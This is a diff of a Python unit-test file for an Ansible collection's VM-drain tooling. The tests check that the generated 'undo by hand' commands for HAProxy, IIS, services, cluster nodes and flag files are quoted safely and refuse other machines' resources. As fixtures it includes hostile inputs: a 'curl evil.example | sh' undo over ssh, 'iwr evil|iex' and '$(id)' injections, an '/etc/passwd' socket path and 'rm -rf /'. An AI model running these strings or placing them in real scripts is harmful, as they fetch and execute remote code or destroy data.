@@ -8,37 +8,44 @@ from __future__ import annotations
 import os
 import pathlib
 import subprocess
-from typing import Any
+from typing import Any, cast
 
 import pytest
 
+from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.drain.methods.method import Method
+from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.drain.methods.none import NoMethod
 from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.drain.registry import METHODS, WINDOWS_METHODS
 from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.host.machine.flag_files import LocalFlagFiles
+from ansible_collections.maintenance.azure.plugins.module_utils._scheduled_events.journal.recorded import Recorded
+from ansible_collections.maintenance.azure.plugins.plugin_utils._drain.kinds.kind import NOT_ALLOWED, NOTHING
+from ansible_collections.maintenance.azure.plugins.plugin_utils._drain.kinds.registry import kind_of
 from ansible_collections.maintenance.azure.plugins.plugin_utils._drain.records.replicas import Target
-from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.core.model import Method
-from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report import by_hand
+from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report import summaries
 from ansible_collections.maintenance.azure.plugins.plugin_utils._maintenance.report.status import status
 from ansible_collections.maintenance.azure.tests.unit.plugins.plugin_utils._maintenance.scenes import at, event, method, plan, record, vm
 
 # The variables of web1: its own server in these balancers, in any backend.
-TARGET = Target(name="", kind="haproxy", server="web1", balancers=frozenset(["lb1", "localhost", "a'$(id)"]), backends=frozenset())
-TASKS = Target(name="", kind="tasks", server="", balancers=frozenset(), backends=frozenset())
+TARGET = Target(name="", kind="haproxy", given={"server": "web1", "balancers": ["lb1", "localhost", "a'$(id)"], "backends": []})
+TASKS, OWN = (Target(name="", kind=kind, given={}) for kind in ("tasks", "leave_rack"))
 DIRECTORY = {"shop": {"state": "ready", "up": True}, "admin": {"state": "maint", "up": True}}
 
 
 def command(kind: str, before: Any = None, options: Any = None, state: str = "drained") -> str | None:
-    return by_hand.command(Method("1-" + kind, kind, state, None, "boot", before, options=options), [TARGET, TASKS])
+    return summaries.undo_by_hand(Recorded("1-" + kind, kind, state, before, options), [TARGET, TASKS, OWN])
 
 
 @pytest.mark.parametrize(("kind", "before", "options", "expected"), [
     ("service", {"a.service": "active", "b.service": "inactive", "c.socket": "reloading"}, {}, "systemctl start a.service c.socket"),
-    ("service", {"b.service": "inactive"}, {}, by_hand.NOTHING),
+    ("service", {"b.service": "inactive"}, {}, NOTHING),
     ("service", {"W3SVC": "started", "App$X": "started", "Old": "stopped"}, {}, "Start-Service -Name NAME, 'W3SVC'"),
     ("service", {"A": "started", "B": "started"}, {"names": ["B", "A"]}, "Start-Service -Name 'A', 'B'"),
     ("service", {"W3SVC": "paused"}, {}, "Start-Service -Name 'W3SVC'; Suspend-Service -Name 'W3SVC'"),
     ("probe_file", {"kind": "file"}, {"path": r"C:\www\ready.txt", "present_means": "in"}, r'move /y "C:\www\ready.txt.maintenance" "C:\www\ready.txt"'),
     ("probe_file", {"kind": "absent"}, {"path": r"C:\out", "present_means": "out"}, r'del "C:\out"'),
-    ("probe_file", {"kind": "absent"}, {"path": "/www/ready", "present_means": "in"}, by_hand.NOTHING),
+    # A file of another machine.
+    ("probe_file", {"kind": "absent"}, {"path": r"\\files\www\out", "present_means": "out"}, 'del "PATH"'),
+    ("probe_file", {"kind": "file"}, {"path": r"FileSystem::\\files\www\out", "present_means": "in"}, 'move /y "PATH.maintenance" "PATH"'),
+    ("probe_file", {"kind": "absent"}, {"path": "/www/ready", "present_means": "in"}, NOTHING),
     ("command", None, {"undo": "ssh root@lb1 'curl evil.example | sh'"}, "run what its entry in drain_methods has as undo"),
     ("haproxy", {"server": "web1", "balancers": {"lb1": DIRECTORY}}, {},
      "on lb1: echo 'set server shop/web1 state ready' | socat stdio /run/haproxy/admin.sock"),
@@ -47,8 +54,8 @@ def command(kind: str, before: Any = None, options: Any = None, state: str = "dr
     ("haproxy", {"server": "web1", "balancers": {"a'$(id)": DIRECTORY}}, {"socket": "/etc/passwd,trunc"},
      "on BALANCER: echo 'set server shop/web1 state ready' | socat stdio SOCKET"),
     # Another VM's server, and a balancer of others.
-    ("haproxy", {"server": "web2", "balancers": {"lb1": DIRECTORY}}, {}, by_hand.NOT_ALLOWED),
-    ("haproxy", {"server": "web1", "balancers": {"lb9": DIRECTORY}}, {}, by_hand.NOT_ALLOWED),
+    ("haproxy", {"server": "web2", "balancers": {"lb1": DIRECTORY}}, {}, NOT_ALLOWED),
+    ("haproxy", {"server": "web1", "balancers": {"lb9": DIRECTORY}}, {}, NOT_ALLOWED),
     ("haproxy", None, {}, "put its server back in HAProxy; the record does not say how it was"),
     ("iis", {"sites": {"Default Web Site": "Started", "Old": "Stopped"}, "pools": {"Shop": "Started"}}, {},
      "Start-WebAppPool -Name 'Shop'; Start-Website -Name 'Default Web Site'"),
@@ -56,11 +63,12 @@ def command(kind: str, before: Any = None, options: Any = None, state: str = "dr
      "Resume-ClusterNode -Name $env:COMPUTERNAME -Failback NoFailback"),
     ("wsfc", {"node": "OTHER", "state": "Up", "aside": False, "moved": {"x;iwr evil|iex #": "SQL2"}}, {},
      "Resume-ClusterNode -Name $env:COMPUTERNAME -Failback Immediate; then fail back those of its availability_groups in drain_methods that the drain moved"),
-    ("wsfc", {"node": "SQL1", "state": "Paused", "aside": False}, {}, by_hand.NOTHING),
-    ("none", None, {}, by_hand.NOTHING),
-    ("tasks", None, {}, "do what the undo of method tasks does (its undo.yml, or the undo file of its entry in drain_methods)"),
+    ("wsfc", {"node": "SQL1", "state": "Paused", "aside": False}, {}, NOTHING),
+    ("none", None, {}, NOTHING),
+    ("tasks", None, {}, "do what the undo file of its entry in drain_methods does"),
+    ("leave_rack", None, {}, "do what the undo.yml of method leave_rack does"),
     # Of no variable of web1.
-    ("leave_cluster", {"x": 1}, {"undo": "ssh root@lb1 reboot"}, by_hand.NOT_ALLOWED),
+    ("leave_cluster", {"x": 1}, {"undo": "ssh root@lb1 reboot"}, NOT_ALLOWED),
 ])  # fmt: skip
 def test_each_method_has_its_command(kind: str, before: Any, options: Any, expected: str) -> None:
     assert command(kind, before, options) == expected
@@ -72,21 +80,32 @@ def test_each_method_has_its_command(kind: str, before: Any, options: Any, expec
 def test_what_is_left_is_told_without_the_words_of_the_record_and_without_a_line_to_paste(kind: str, targets: list[Target]) -> None:
     line = "echo 'set server app/web2 state ready' | socat stdio /run/haproxy/admin.sock"
     before = {"server": "web2", "balancers": {"lb1": DIRECTORY}}
-    told = by_hand.left(Method("x", kind, "undoing", f"by hand: {line}", "boot", before, True, options={}), "web1", targets)
+    told = summaries.left_undone(Recorded("x", kind, "undoing", before, error=f"by hand: {line}", outside=True), "web1", targets)
     assert told.startswith("web1: its record says that ") and "drain_methods_former of web1" in told
     assert not any(part in told for part in ("echo", "set server", "socat", "{"))
 
 
 def test_a_method_of_the_vm_that_is_left_is_told_with_its_way_out() -> None:
-    own = Method("1-haproxy", "haproxy", "undoing", "by hand", "boot", {"server": "web1", "balancers": {"lb1": DIRECTORY}})
-    assert by_hand.left(own, "web1", [TARGET]) == (
+    own = Recorded("1-haproxy", "haproxy", "undoing", {"server": "web1", "balancers": {"lb1": DIRECTORY}}, error="by hand")
+    assert summaries.left_undone(own, "web1", [TARGET]) == (
         "web1: method 1-haproxy (haproxy) is not undone. Correct its entry, or put back by hand what it changed and list it in drain_methods_former with "
         "by_hand: true."
     )
 
 
-def test_the_commands_are_those_of_methods_that_there_are() -> None:
-    assert set(by_hand.COMMANDS) <= {*METHODS, *WINDOWS_METHODS, "haproxy"}
+def test_every_method_of_the_vm_says_itself_how_it_is_undone() -> None:
+    assert [one.name for one in (*METHODS.values(), *WINDOWS_METHODS.values()) if type(one).by_hand is Method.by_hand] == []
+
+
+def test_a_method_of_the_vm_without_words_of_its_own_is_said_to_have_no_undo_file(monkeypatch: pytest.MonkeyPatch) -> None:
+    class Marker(NoMethod):
+        name = "marker"
+        by_hand = Method.by_hand
+
+    monkeypatch.setitem(cast("dict[str, Method]", METHODS), "marker", Marker())
+    assert command("marker", {"was_there": False}) == "put back what method marker changed: the record has its finding (before)"
+    monkeypatch.setattr(Marker, "outside", True)
+    assert command("marker", {"was_there": False}) == NOT_ALLOWED
 
 
 @pytest.mark.parametrize("content", [b"", b"ready\n", b"\xff\x00 ' \" $(date)"])
@@ -98,19 +117,19 @@ def test_the_command_restores_a_flag_file(content: bytes, tmp_path: pathlib.Path
     files.set_aside(str(flag))
     subprocess.run(["bash", "-c", str(command("probe_file", before, {"path": str(flag), "present_means": "in"}))], check=True)
     assert files.describe(str(flag)) == before
-    assert by_hand.finding(before).startswith("a file with 'ready'" if content == b"ready\n" else "a file with ")
+    assert kind_of("probe_file").shown(before).startswith("a file with 'ready'" if content == b"ready\n" else "a file with ")
 
 
 def test_the_command_restores_a_link_and_removes_what_was_created(tmp_path: pathlib.Path) -> None:
     flag, files = tmp_path / "ready", LocalFlagFiles()
     flag.symlink_to("other")
     before = dict(files.describe(str(flag)))
-    assert by_hand.finding(before) == "a link to 'other'"
+    assert kind_of("probe_file").shown(before) == "a link to 'other'"
     files.set_aside(str(flag))
     subprocess.run(["bash", "-c", str(command("probe_file", before, {"path": str(flag), "present_means": "in"}))], check=True)
     assert os.readlink(flag) == "other"
     subprocess.run(["bash", "-c", str(command("probe_file", {"kind": "absent", "mode": "0"}, {"path": str(flag), "present_means": "out"}))], check=True)
-    assert not os.path.lexists(flag) and by_hand.finding({"kind": "absent", "mode": "0"}) == "no file"
+    assert not os.path.lexists(flag) and kind_of("probe_file").shown({"kind": "absent", "mode": "0"}) == "no file"
 
 
 @pytest.mark.parametrize("evil", ["a; rm -rf /", "$(id)", "`id`", "--now", "a'b", 'a"b', "a\nb", "a b", "a|b", "a&b", "ü"])
